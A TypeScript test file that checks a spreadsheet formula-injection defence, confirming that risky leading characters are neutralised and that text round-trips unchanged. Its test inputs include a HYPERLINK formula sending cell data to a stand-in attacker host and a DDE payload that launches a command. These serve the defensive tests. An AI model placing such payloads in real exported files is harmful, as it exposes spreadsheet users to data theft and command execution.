import { assert, constantFrom, property, string, tuple } from 'fast-check'
import { expect, test } from 'vitest'
import { defusedText, undefusedText } from './spreadsheet-text.ts'

test.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '\u3000=1',
  '\u00A0=1',
  '\uFEFF=1',
  '＝1',
  '＋1',
  '－1',
  '＠1',
  "'=1",
  "''  ＝1",
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '@',
])('%j is not run', (text) => {
  expect(defusedText(text)).toBe(`'${text}`)
})

test.each(['', ' ', 'a=1', '1', "'s plan", '数据局', '"=1', '(=1)', '‑1', '—', '·=1'])('%j stays as it is', (text) => {
  expect(defusedText(text)).toBe(text)
  expect(undefusedText(text)).toBe(text)
})

test('whatever a text is, it never begins like a formula in the file, and comes back to the letter', () => {
  const start = string({
    unit: constantFrom("'", ' ', '\t', '\r', '\n', '\uFEFF', '\u3000', '=', '+', '-', '@', '＝', '＠', 'x'),
    maxLength: 6,
  })
  assert(
    property(tuple(start, string({ unit: 'grapheme', maxLength: 8 })), ([head, tail]) => {
      const text = head + tail
      const written = defusedText(text)
      expect(written).not.toMatch(/^[\s\uFEFF]*[=+\-@＝＋－＠]/u)
      expect(written).not.toMatch(/^[\t\r]/)
      expect(undefusedText(written)).toBe(text)
    }),
    { seed: 5, numRuns: 3_000 },
  )
})
